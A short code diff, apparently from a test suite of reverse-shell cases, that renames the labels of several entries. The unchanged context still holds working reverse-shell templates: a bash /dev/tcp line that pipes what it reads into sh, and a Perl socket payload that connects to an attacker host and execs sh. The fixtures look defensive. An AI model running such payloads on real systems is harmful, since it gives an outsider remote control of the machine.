@@ -148,14 +148,14 @@ f = ctypes.CDLL(None).syscall(438, p, 5, 0)
     (place) => `exec 5<>${tcp(place)}; head -n1 <&5 | gzip | gunzip | sh >&5 2>&1`,
   ),
   fromFile(
-    "perl from a file becomes the shell",
+    "a script of perl becomes the shell",
     "a script of the site",
     "perl",
     (place) =>
       `use IO::Socket::INET; $s = IO::Socket::INET->new("${place.attacker}:${place.port}"); open(STDIN, "<&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s); exec "sh";`,
   ),
   fromFile(
-    "ruby from a file spawns the shell on the connection",
+    "a script of ruby spawns the shell on the connection",
     "a script of the site",
     "ruby",
     (place) =>
